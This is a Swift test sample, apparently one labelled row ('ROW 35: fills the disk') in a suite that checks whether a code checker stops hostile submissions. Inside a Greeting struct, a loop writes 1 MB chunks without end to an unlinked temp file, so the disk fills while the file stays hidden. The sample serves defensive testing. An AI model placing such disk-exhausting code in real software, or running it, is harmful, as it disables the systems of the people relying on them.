// ROW 35: fills the disk
// VERDICT: stopped
// SAYS: `FileHandle.init(forWritingAtPath:)` finds, reads or changes files, and no exercise needs that
import Foundation

struct Greeting {
    func text(for name: String) -> String {
        let path = FileManager.default.temporaryDirectory.appending(path: "workbook-hostile-\(UUID())").path
        FileManager.default.createFile(atPath: path, contents: nil)
        let file = FileHandle(forWritingAtPath: path)
        unlink(path)
        let chunk = Data(repeating: 1, count: 1 << 20)
        while name.count > 0 { file?.write(chunk) }

        return "Hello"
    }
}
